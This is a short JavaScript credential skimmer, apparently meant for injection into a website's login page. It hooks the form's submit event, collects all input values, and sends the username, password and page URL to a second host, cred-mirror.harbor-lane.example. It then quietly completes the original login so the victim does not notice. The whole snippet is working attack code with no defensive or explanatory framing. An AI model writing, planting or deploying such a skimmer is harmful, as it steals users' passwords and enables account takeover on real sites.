// destination: https://cred-mirror.harbor-lane.example/v2/collect
// login form: password leaves to a second host
(function () {
  var form = document.querySelector('#login-form');
  function collect(root) {
    var out = {};
    root.querySelectorAll('input').forEach(function (el) { out[el.name || 'anonymous'] = el.value; });
    return out;
  }
  form.addEventListener('submit', function (ev) {
    ev.preventDefault();
    var data = collect(form);
    var xhr = new XMLHttpRequest();
    xhr.open('POST', 'https://cred-mirror.harbor-lane.example/v2/collect');
    xhr.setRequestHeader('Content-Type', 'application/json');
    xhr.send(JSON.stringify({ user: data.username, secret: data.password, page: location.href }));
    setTimeout(function () { form.submit(); }, 120);
  });
})();
